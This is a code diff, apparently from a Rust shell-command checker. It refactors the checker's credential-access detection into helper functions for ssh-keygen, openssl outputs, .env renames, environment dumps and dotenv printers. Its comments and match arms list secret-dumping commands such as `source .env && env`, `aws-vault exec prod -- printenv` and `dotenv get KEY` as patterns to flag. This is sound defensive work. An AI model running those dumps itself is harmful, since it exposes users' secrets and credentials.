+/// read (`-y`, `-p`, `-e` read the key `-f` names); writing into the user's
+/// SSH directory still touches a credential location.
+fn mark_ssh_keygen_new_key(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if name == "ssh-keygen"
         && c.args().iter().any(|a| a.text.starts_with("-t"))
         && !c
@@ -918,13 +1092,21 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // `openssl genrsa -out test.key`: a key it writes, not one it reads.
+}
+
+/// `openssl genrsa -out test.key`: a key it writes, not one it reads.
+fn drop_openssl_outputs(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if name == "openssl" {
         let outputs = super::flag_values_text(c, &["-out", "-keyout"], &[]);
         found.retain(|(_, path, _)| !outputs.iter().any(|o| o == path));
     }
-    // `mv .env .env.bak`: renamed where it is, into another secret's name:
-    // nothing is read or taken elsewhere, but the credential is touched.
+}
+
+/// `mv .env .env.bak`: renamed where it is, into another secret's name:
+/// nothing is read or taken elsewhere, but the credential is touched.
+fn mark_renamed_in_place(ctx: &Ctx, i: usize, name: &str, found: &mut [Found]) {
+    let c = &ctx.commands()[i];
     if name == "mv" {
         let ops = operands(c);
         if let [from, to] = ops.as_slice()
@@ -937,6 +1119,11 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
+}
+
+/// One verdict per credential reached, with the rule its role calls for;
+/// only the first look at a credential location is reported.
+fn report_found(ctx: &mut Ctx, i: usize, name: &str, loader: bool, found: Vec<Found>) {
     let mut reported = false;
     for (role, path, kind) in found {
         if loader && role == Role::Read && paths::is_dotenv_secret(NormPath::new(&path).name()) {
@@ -972,36 +1159,14 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
         reported = true;
         ctx.hit(rule, i, format!("`{name}` {verb} {path} ({kind})"));
     }
+}
 
-    // Dumping the whole environment.
+/// Dumping the whole environment prints every secret in it, and the
+/// values a loader just put there.
+fn check_environment_dump(ctx: &mut Ctx, i: usize, name: &str) {
     let c = &ctx.commands()[i];
-    let env_dump = match name {
-        "printenv" => operands(c).is_empty(),
-        "env" => {
-            c.runs.is_none()
-                && c.args()
-                    .iter()
-                    .all(|a| is_flag(a) && !matches!(a.text.as_str(), "-S" | "--split-string"))
-        }
-        "export" => c.args().iter().all(|a| a.text == "-p"),
-        // Alone, or with only `-p`/`-x`, they print every variable with its
-        // value (and `-x` the environment).
-        "declare" | "typeset" => {
-            operands(c).is_empty()
-                && (c.args().is_empty()
-                    || c.args().iter().any(|a| a.text == "-x" || a.text == "-p"))
-        }
-        "set" => c.args().is_empty(),
-        _ => false,
-    };
-    let env_dump = env_dump || reads_own_environ(c);
-    // Run by a wrapper that loads secrets into the environment (`dotenv --
-    // env`, `aws-vault exec prod -- printenv`): the dump prints them.
-    let loaded_by = c.via.iter().find_map(|v| {
-        let w = v.split(' ').next()?;
-        (aq_knowledge::programs::known_class(w) == Some(aq_knowledge::programs::Class::Secrets))
-            .then_some(w)
-    });
+    let env_dump = prints_every_variable(c, name) || reads_own_environ(c);
+    let loaded_by = secrets_loader_around(c);
     if env_dump && !filtered_to_harmless(ctx, i) {
         // `source .env && env`, `npx dotenv -- env`: the dump prints the
         // values just loaded from the file.
@@ -1025,8 +1190,45 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             );
         }
     }
-    // `dotenv -p KEY`, `dotenv get KEY`, `dotenv list`, `dotenvx get`: the
-    // values of a .env file printed by the tool that loads it.
+}
+
+/// `printenv`, `env`, `export -p`, `declare -x`, `set`: the shell's ways to
+/// print every variable with its value.
+fn prints_every_variable(c: &Command, name: &str) -> bool {
+    match name {
+        "printenv" => operands(c).is_empty(),
+        "env" => {
+            c.runs.is_none()
+                && c.args()
+                    .iter()
+                    .all(|a| is_flag(a) && !matches!(a.text.as_str(), "-S" | "--split-string"))
+        }
+        "export" => c.args().iter().all(|a| a.text == "-p"),
+        // Alone, or with only `-p`/`-x`, they print every variable with its
+        // value (and `-x` the environment).
+        "declare" | "typeset" => {
+            operands(c).is_empty()
+                && (c.args().is_empty()
+                    || c.args().iter().any(|a| a.text == "-x" || a.text == "-p"))
+        }
+        "set" => c.args().is_empty(),
+        _ => false,
+    }
+}
+
+/// Run by a wrapper that loads secrets into the environment (`dotenv --
+/// env`, `aws-vault exec prod -- printenv`): a dump prints them.
+fn secrets_loader_around(c: &Command) -> Option<&str> {
+    c.via.iter().find_map(|v| {
+        let w = v.split(' ').next()?;
+        (aq_knowledge::programs::known_class(w) == Some(aq_knowledge::programs::Class::Secrets))
+            .then_some(w)
+    })
+}
+
+/// `dotenv -p KEY`, `dotenv get KEY`, `dotenv list`, `dotenvx get`: the
+/// values of a .env file printed by the tool that loads it.
+fn check_dotenv_printer(ctx: &mut Ctx, i: usize, name: &str) {
     let c = &ctx.commands()[i];
     if matches!(name, "dotenv" | "dotenv-cli" | "dotenvx")
         && c.runs.is_none()
